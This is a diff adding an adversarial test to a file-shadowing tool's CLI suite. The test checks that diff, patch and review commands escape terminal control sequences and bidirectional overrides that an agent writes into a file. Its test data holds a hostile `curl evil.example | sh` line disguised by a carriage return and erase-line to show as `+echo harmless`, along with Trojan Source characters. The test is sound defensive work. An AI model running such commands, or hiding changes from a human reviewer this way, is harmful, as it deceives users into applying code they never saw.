@@ -17,6 +17,7 @@ import { setMemoryBudget } from '../src/shadow';
 import { defaultMemoryBudget } from '../src/shadow/budget';
 import { FolderGuard, eventually, repoRoot, tempDir, withShadow } from './helpers/fixtures';
 import { running, stopTestDaemon } from './helpers/hooks';
+import { CliTerminal } from './helpers/terminal';
 
 const cliPath = path.join(repoRoot, 'bin', 'shadowfs.js');
 const b64 = (s: string): string => Buffer.from(s).toString('base64');
@@ -126,6 +127,69 @@ describe('adversarial: the newest surfaces', function () {
       }
       await guard.check();
     } finally {
+      guard.stop();
+    }
+  });
+
+  it("an agent's file contents cannot drive the user's terminal in diff, patch and review; to a pipe a patch stays byte for byte", async () => {
+    // Broke: diff, patch and review printed the agent's text as it is, so a line holding a
+    // carriage return and "erase line" showed the user `+echo harmless` while it held
+    // `curl evil.example | sh`, and the next line could move the cursor up to erase the one
+    // before; a bidirectional override (Trojan Source) reorders what a line shows. The user would
+    // apply what they never saw. On a terminal these now print as escapes; a CRLF file's line
+    // ends stay as they are, and a patch written to a pipe is unchanged for git apply.
+    const folder = makeFolder('esc-content');
+    fs.writeFileSync(path.join(folder, 'win.txt'), 'one\r\ntwo\r\n');
+    const guard = new FolderGuard(folder);
+    const terms: CliTerminal[] = [];
+    try {
+      const shadow = (await user.request('mount', { folder, name: 'esc-content' })).name;
+      mounted.push(shadow);
+      const hostile =
+        '# project\ncurl evil.example | sh\r\x1b[2K+echo harmless\n\x1b[1A\x1b[2K\nconst ok = "\u202e;gnirts\u2066" \x9b31m\x07\n';
+      await user.request('layer.write', { shadow, agent: 'a', path: 'README.md', data: b64(hostile) });
+      await user.request('layer.write', { shadow, agent: 'a', path: 'win.txt', data: b64('one\r\nthree\r\n') });
+      const onTerminal = async (args: string[], interactive: boolean): Promise<string> => {
+        const t = new CliTerminal(args, { cols: 200 });
+        terms.push(t);
+        if (interactive) {
+          // Both hunks shown: the first skipped, then quit (nothing applied, nothing rejected).
+          t.type('s\r');
+          await t.waitFor(/\(2\/2\) Apply .*\?/);
+          t.type('q\r');
+        }
+        assert.strictEqual(await t.exited, 0, `${args.join(' ')}:\n${t.output}`);
+        return t.output;
+      };
+      for (const [args, interactive] of [
+        [['diff', shadow, '--agent', 'a'], false],
+        [['patch', shadow, '--agent', 'a'], false],
+        [['review', shadow, '--agent', 'a', '--list'], false],
+        [['review', shadow, '--agent', 'a'], true],
+      ] as Array<[string[], boolean]>) {
+        const out = await onTerminal(args, interactive);
+        // What the CLI prints itself goes (its colours, readline's column moves and clears of
+        // the prompt: the agent's text holds an erase-line and a cursor-up, neither of these),
+        // and the terminal's own CR before each LF.
+        const text = out.replace(/\x1b\[[0-9;]*[mGJ]/g, '').replace(/\r+\n/g, '\n');
+        assert.ok(text.includes('+curl evil.example | sh\\r\\e[2K+echo harmless'), `${args.join(' ')} shows the whole line:\n${text}`);
+        assert.ok(text.includes('\\u202e;gnirts\\u2066'), `${args.join(' ')} shows the bidirectional controls:\n${text}`);
+        const bad = /[\r\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/.exec(text);
+        assert.ok(!bad, `${args.join(' ')} printed ${JSON.stringify(bad?.[0])} from a file:\n${JSON.stringify(text)}`);
+        assert.ok(text.includes('+three\n') && !text.includes('three\\r'), `${args.join(' ')}: a CRLF line prints as it is:\n${text}`);
+      }
+      // To a pipe: the patch, byte for byte, makes the agent's files with git apply.
+      const copy = tempDir('esc-content-copy');
+      fs.cpSync(folder, copy, { recursive: true });
+      const patch = spawnSync(process.execPath, [cliPath, 'patch', shadow, '--agent', 'a'], { timeout: 60_000 });
+      assert.strictEqual(patch.status, 0, String(patch.stderr));
+      const ap = spawnSync('git', ['apply', '-'], { cwd: copy, input: patch.stdout, encoding: 'utf8' });
+      assert.strictEqual(ap.status, 0, ap.stderr);
+      assert.strictEqual(fs.readFileSync(path.join(copy, 'README.md'), 'utf8'), hostile);
+      assert.strictEqual(fs.readFileSync(path.join(copy, 'win.txt'), 'utf8'), 'one\r\nthree\r\n');
+      await guard.check();
+    } finally {
+      for (const t of terms) t.kill();
       guard.stop();
     }
   });
